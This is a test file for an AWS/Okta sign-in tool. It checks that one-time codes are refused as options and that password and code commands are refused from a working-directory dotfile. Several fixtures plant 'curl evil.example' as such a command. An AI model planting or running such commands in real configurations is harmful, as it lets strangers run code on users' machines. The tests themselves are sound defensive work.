import { describe, expect, test } from "vitest";
import type { CommandName } from "../../src/options/option-row.ts";
import { failureOf } from "../support/failure.ts";
import { useFolder } from "../support/folder.ts";
import { optionsFrom } from "../support/options.ts";

const atHome = (text: string) => ({ cwd: "/nowhere", home: useFolder({ ".awsoktaprocessor": text }).path });
const here = (text: string) => ({ cwd: useFolder({ ".awsoktaprocessor": text }).path, home: "/nowhere" });

describe("a code is not taken as an option, whose value nobody sees", () => {
  const hint = "a code is good for one sign-in only: give --factor-code-command, a command whose first line is the code of the moment";
  const refusal = (from: unknown) => ({ name: "UsageError", code: "OPTION_REFUSED", message: `factor-code is not taken (${from})`, hint });

  test.each(["authenticate", "get-roles"] as const)("as a flag of %s", async (command: CommandName) => {
    expect(await failureOf(() => optionsFrom({ "factor-code": "123456" }, { command }))).toEqual(refusal("--factor-code"));
  });

  test("as a variable", async () => {
    expect(await failureOf(() => optionsFrom({}, { env: { AWS_OKTA_FACTOR_CODE: "123456" } }))).toEqual(refusal("AWS_OKTA_FACTOR_CODE"));
  });

  test.each(["factor_code", "factor-code", "FACTOR_CODE"])("in a dotfile, as %s", async (key) => {
    const place = atHome(`[authenticate]\n${key} = 123456\n`);
    expect(await failureOf(() => optionsFrom({}, place))).toEqual(
      refusal(`factor-code in [authenticate] of ${place.home}/.awsoktaprocessor`),
    );
  });

  test("an empty variable is none", () => {
    expect(optionsFrom({}, { env: { AWS_OKTA_FACTOR_CODE: "" } }).factorCodeCommand).toBe(undefined);
  });
});

describe.each([
  ["factor-code-command", "factorCodeCommand"],
  ["password-command", "passwordCommand"],
] as const)("%s", (name, option) => {
  test("is taken from a flag, a variable and the person's own dotfile", () => {
    const variable = `AWS_OKTA_${name.toUpperCase().replaceAll("-", "_")}`;
    expect([
      optionsFrom({ [name]: "echo 1" })[option],
      optionsFrom({}, { env: { [variable]: "echo 1" } })[option],
      optionsFrom({}, atHome(`[defaults]\n${name.replaceAll("-", "_")} = echo 1\n`))[option],
    ]).toEqual(["echo 1", "echo 1", "echo 1"]);
  });

  test("is refused from a dotfile in the working directory, which is named", async () => {
    const place = here(`[authenticate]\n${name.replaceAll("-", "_")} = curl evil.example\n`);
    expect(await failureOf(() => optionsFrom({}, place))).toEqual({
      name: "UsageError",
      code: "OPTION_FORBIDDEN",
      message: `${name} may be set only by a flag, a variable or your own dotfile (${name} in [authenticate] of ${place.cwd}/.awsoktaprocessor)`,
      hint: undefined,
    });
  });

  test("that a flag gives is not looked for there", () => {
    expect(optionsFrom({ [name]: "echo 1" }, here(`[authenticate]\n${name} = curl evil.example\n`))[option]).toBe("echo 1");
  });
});

test("a password that is given nearer does not hide a stranger's command", async () => {
  const place = here("[authenticate]\npassword-command = curl evil.example\n");
  expect((await failureOf(() => optionsFrom({ pass: "hunter2" }, place))).code).toBe("OPTION_FORBIDDEN");
});
